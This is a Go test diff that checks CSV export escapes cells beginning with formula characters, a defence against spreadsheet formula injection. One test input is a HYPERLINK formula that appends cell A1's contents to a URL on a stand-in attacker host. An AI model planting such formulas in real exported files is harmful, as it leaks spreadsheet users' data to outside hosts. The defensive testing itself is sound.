@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 )
@@ -63,7 +64,7 @@ func TestCSVRecordIsEncodingCSV(t *testing.T) {
 				cells = append(cells, strconv.FormatInt(f.Int(&e), 10))
 			}
 		}
-		if got, want := string(AppendCSVRecord(nil, &e)), csvLine(t, cells); got != want {
+		if got, want := string(AppendCSVRecord(nil, &e, CSVFormulasRaw)), csvLine(t, cells); got != want {
 			t.Errorf("text %q:\n%q\nwant\n%q", text, got, want)
 		}
 	}
@@ -80,4 +81,57 @@ func FuzzCSVField(f *testing.F) {
 			t.Errorf("%q: %q, want %q", s, got, want)
 		}
 	})
+}
+
+// TestCSVFormulasAreEscaped: a text cell that begins with =, +, -, @, a tab
+// or a carriage return is written with a leading ', in every text column,
+// and the line is still what encoding/csv writes for those cells; with
+// CSVFormulasRaw every cell is as stored. Other text, and every time,
+// number and boolean cell, is as it was.
+func TestCSVFormulasAreEscaped(t *testing.T) {
+	at := time.Date(2026, 11, 22, 3, 4, 5, 0, time.UTC)
+	for _, text := range []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "=1+2",
+		"a=b", " =x", "'quoted", "", "회의 = meeting",
+	} {
+		formula := strings.ContainsAny(text[:min(1, len(text))], "=+-@\t\r")
+		if got := IsCSVFormula(text); got != formula {
+			t.Errorf("IsCSVFormula(%q) = %v", text, got)
+		}
+		tag, ref, source := text, text, Source("import")
+		e := Event{ID: 7, Kind: KindTask, Status: StatusPlanned, Title: text, Description: text, ProjectTag: &tag,
+			Source: &source, SourceRef: &ref, DueAt: &at, Priority: 3, CreatedAt: at, UpdatedAt: at}
+		for _, formulas := range []CSVFormulas{CSVFormulasEscaped, CSVFormulasRaw} {
+			var cells []string
+			escaped := 0
+			for j := range EventFields {
+				f := &EventFields[j]
+				switch f.Type {
+				case TypeText, TypeEnum:
+					s, _ := f.Text(&e)
+					if formulas == CSVFormulasEscaped && formula && s == text {
+						s = "'" + s
+						escaped++
+					}
+					cells = append(cells, s)
+				case TypeTime:
+					s := ""
+					if t := f.Time(&e); t != nil {
+						s = FormatTime(*t)
+					}
+					cells = append(cells, s)
+				case TypeBool:
+					cells = append(cells, strconv.FormatBool(f.Bool(&e)))
+				default:
+					cells = append(cells, strconv.FormatInt(f.Int(&e), 10))
+				}
+			}
+			if formulas == CSVFormulasEscaped && formula && escaped != 4 {
+				t.Fatalf("%q: %d text columns hold it, want title, description, project_tag and source_ref", text, escaped)
+			}
+			if got, want := string(AppendCSVRecord(nil, &e, formulas)), csvLine(t, cells); got != want {
+				t.Errorf("%q (formulas %d):\n%q\nwant\n%q", text, formulas, got, want)
+			}
+		}
+	}
 }
